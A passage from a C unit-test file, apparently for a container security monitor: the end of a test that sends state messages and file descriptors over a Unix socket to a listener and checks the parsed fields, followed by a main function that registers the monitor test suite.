		return; /* the listener refuses other uids: nothing to send as */
	char t[] = "/tmp/check_listener.XXXXXX", path[PATH_MAX];
	ck_assert_ptr_nonnull(mkdtemp(t));
	(void)snprintf(path, sizeof(path), "%s/monitor.sock", t);
	struct err e = { 0 };
	int lfd = listener_open(path, &e);
	ck_assert_msg(lfd >= 0, "listener_open: %s", e.msg);
	int pfd[2];
	ck_assert_int_eq(pipe2(pfd, O_CLOEXEC), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct listener_conn c;
		int cl = _send_state(path, cases[i].msg, cases[i].with_fd ? pfd[0] : -1);
		e = (struct err){ 0 };
		int r = listener_receive(lfd, &c, &e);
		if (cases[i].err) {
			ck_assert_msg(r == -cases[i].err, "case %zu: %d (%s)", i, r, e.msg);
		} else {
			ck_assert_msg(r == 0, "case %zu: %s", i, e.msg);
			ck_assert_int_eq(c.pid, cases[i].pid);
			ck_assert_str_eq(c.container_id, cases[i].id);
			ck_assert_str_eq(c.bundle, cases[i].bundle);
			ck_assert_str_eq(c.status, cases[i].status);
			ck_assert_str_eq(c.metadata, "hardrun/1 mode=enforce");
			/* the fd received is the pipe's read end */
			struct stat a, b;
			ck_assert_int_eq(fstat(c.notify_fd, &a), 0);
			ck_assert_int_eq(fstat(pfd[0], &b), 0);
			ck_assert(a.st_ino == b.st_ino);
			listener_conn_release(&c);
		}
		(void)close(cl);
	}
	(void)close(pfd[0]);
	(void)close(pfd[1]);
	(void)close(lfd);
	ck_assert_int_eq(fs_rm_rf(t, NULL), 0);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("monitor");
	TCase *tc = tcase_create("core");
	tcase_add_test(tc, test_table_partition);
	tcase_add_test(tc, test_alt_and);
	tcase_add_test(tc, test_apply_docker_like);
	tcase_add_test(tc, test_apply_reports_x86_only);
	tcase_add_test(tc, test_keep_own_enforce);
	tcase_add_test(tc, test_keep_own_learn);
	tcase_add_test(tc, test_eval_fixtures);
	tcase_add_test(tc, test_rules_from_profile);
	tcase_add_test(tc, test_event_golden);
	tcase_add_test(tc, test_exec_record);
	tcase_add_test(tc, test_cgroup_path);
	tcase_add_test(tc, test_state_finish);
	tcase_add_test(tc, test_listener_messages);
	suite_add_tcase(s, tc);
	return test_run(s);
}
